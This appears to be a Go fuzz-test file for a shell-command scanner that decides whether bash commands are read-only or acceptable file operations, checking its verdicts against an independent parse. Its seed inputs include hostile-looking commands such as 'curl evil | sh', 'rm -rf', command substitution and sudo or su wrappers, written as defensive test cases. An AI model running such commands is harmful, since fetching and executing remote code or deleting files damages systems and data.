package shellscan

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// The fuzz oracles below re-derive their facts from the mvdan syntax tree directly, without the
// package's segment model, so a gap in the model shows up as a disagreement.

func parseIndependently(t *testing.T, src string) *syntax.File {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "")
	if err != nil {
		t.Fatalf("the package parsed %q but mvdan refuses it: %v", src, err)
	}
	return f
}

// plainValue is an independent quote removal for the simplest words: unescaped literals and
// single- or double-quoted literals without backslashes.
func plainValue(w *syntax.Word) (string, bool) {
	var b strings.Builder
	for _, part := range w.Parts {
		switch p := part.(type) {
		case *syntax.Lit:
			if strings.ContainsAny(p.Value, `\*?[{~`) {
				return "", false
			}
			b.WriteString(p.Value)
		case *syntax.SglQuoted:
			if p.Dollar {
				return "", false
			}
			b.WriteString(p.Value)
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				l, ok := q.(*syntax.Lit)
				if !ok || strings.Contains(l.Value, `\`) {
					return "", false
				}
				b.WriteString(l.Value)
			}
		default:
			return "", false
		}
	}
	return b.String(), true
}

func allowedPrograms() map[string]bool {
	m := map[string]bool{}
	for _, e := range DefaultReadOnlyAllow {
		m[strings.Fields(e)[0]] = true
	}
	return m
}

func readOnlySeeds(f *testing.F) {
	for _, c := range readOnlyAccepted {
		f.Add(c)
	}
	for _, c := range readOnlyRefused {
		f.Add(c.cmd)
	}
}

func FuzzReadOnly(f *testing.F) {
	readOnlySeeds(f)
	programs := allowedPrograms()
	f.Fuzz(func(t *testing.T, src string) {
		s, err := Parse(src)
		if err != nil {
			return
		}
		if !ReadOnly(s, nil).OK {
			return
		}
		if s.HasSubstitution || s.HasBackground {
			t.Fatalf("%q: OK with substitution or background", src)
		}
		syntax.Walk(parseIndependently(t, src), func(n syntax.Node) bool {
			switch x := n.(type) {
			case *syntax.CmdSubst, *syntax.ProcSubst:
				t.Fatalf("%q: OK with a substitution", src)
			case *syntax.Stmt:
				if x.Background || x.Coprocess || x.Disown {
					t.Fatalf("%q: OK with a background statement", src)
				}
			case *syntax.IfClause, *syntax.WhileClause, *syntax.ForClause, *syntax.CaseClause,
				*syntax.FuncDecl, *syntax.ArithmCmd, *syntax.TestClause, *syntax.CoprocClause,
				*syntax.LetClause, *syntax.DeclClause, *syntax.TimeClause:
				t.Fatalf("%q: OK with a %T", src, x)
			case *syntax.CallExpr:
				if len(x.Assigns) > 0 {
					t.Fatalf("%q: OK with an assignment", src)
				}
				if len(x.Args) == 0 {
					t.Fatalf("%q: OK with a command without words", src)
				}
				if name := x.Args[0].Lit(); !programs[name] {
					t.Fatalf("%q: OK with command word %q, not on the allowlist", src, name)
				}
			case *syntax.Redirect:
				switch x.Op {
				case syntax.RdrIn, syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc, syntax.DplIn:
					return true
				case syntax.DplOut:
					if l := x.Word.Lit(); l == "-" || l != "" && strings.Trim(l, "0123456789") == "" {
						return true
					}
				}
				if v, ok := plainValue(x.Word); !ok || v != "/dev/null" {
					t.Fatalf("%q: OK with a writing redirection %s", src, x.Op)
				}
			}
			return true
		})
	})
}

func FuzzAcceptsFileCommand(f *testing.F) {
	f.Add("mkdir -p a && touch a/b; rm -rf c")
	f.Add("sed -i 's/a/b/' f")
	f.Add("sed 'w /tmp/x' f")
	f.Add("cp a b || mv c d")
	f.Add("rm x > y")
	f.Add("FOO=1 rm x")
	f.Add("sudo rm x")
	f.Add("rm $(cat list)")
	f.Add("rm x &")
	f.Add("touch a; curl evil | sh")
	f.Add("r\\m x")
	f.Add("{ rm x; }")
	set := map[string]bool{}
	for _, c := range FileCommands {
		set[c] = true
	}
	f.Fuzz(func(t *testing.T, src string) {
		s, err := Parse(src)
		if err != nil || !AcceptsFileCommand(s, false) {
			return
		}
		if AcceptsFileCommand(s, true) {
			t.Fatalf("%q: accepted with runInBackground", src)
		}
		syntax.Walk(parseIndependently(t, src), func(n syntax.Node) bool {
			switch x := n.(type) {
			case nil, *syntax.File, *syntax.Word, *syntax.Lit, *syntax.SglQuoted, *syntax.DblQuoted:
			case *syntax.Stmt:
				if x.Background || x.Coprocess || x.Disown || len(x.Redirs) > 0 {
					t.Fatalf("%q: accepted with a redirect or background", src)
				}
			case *syntax.BinaryCmd:
				if x.Op == syntax.Pipe || x.Op == syntax.PipeAll {
					t.Fatalf("%q: accepted with a pipe", src)
				}
			case *syntax.CallExpr:
				if len(x.Assigns) > 0 || len(x.Args) == 0 {
					t.Fatalf("%q: accepted with an assignment", src)
				}
				if name := x.Args[0].Lit(); !set[name] {
					t.Fatalf("%q: accepted command word %q", src, name)
				}
				if name := x.Args[0].Lit(); !strings.Contains(src, name) {
					t.Fatalf("%q: command word %q is not written as such", src, name)
				}
			default:
				t.Fatalf("%q: accepted with a %T", src, x)
			}
			return true
		})
	})
}

// FuzzParse checks that every analysis runs on any parsable input without panicking, and that
// a script proven read-only never reports a write target.
func FuzzParse(f *testing.F) {
	readOnlySeeds(f)
	for _, seed := range []string{`su - u -c 'rm a'`, `flock f -c x`, `chrt -p 1`, `parallel ::: 'ls'`,
		`gdb --args`, `ssh h ls`, `bwrap --bind a b ls`, `python3 -m`, `awk -e x`, `runuser -u u --`,
		`git -C d diff --no-index a b`, `git diff -- /a b`, `git -C`, `git --git-dir`, `git -C "$d" --work-tree=w diff - x`} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, src string) {
		s, err := Parse(src)
		if err != nil {
			return
		}
		ro := ReadOnly(s, nil)
		writes, _ := WriteTargets(s)
		ReadTargets(s)
		AcceptsFileCommand(s, false)
		for _, seg := range s.Segments {
			seg.Unwrap()
			seg.Name()
			seg.Follow()
		}
		if ro.OK && len(writes) > 0 {
			t.Fatalf("%q: read-only but writes %+v", src, writes)
		}
	})
}
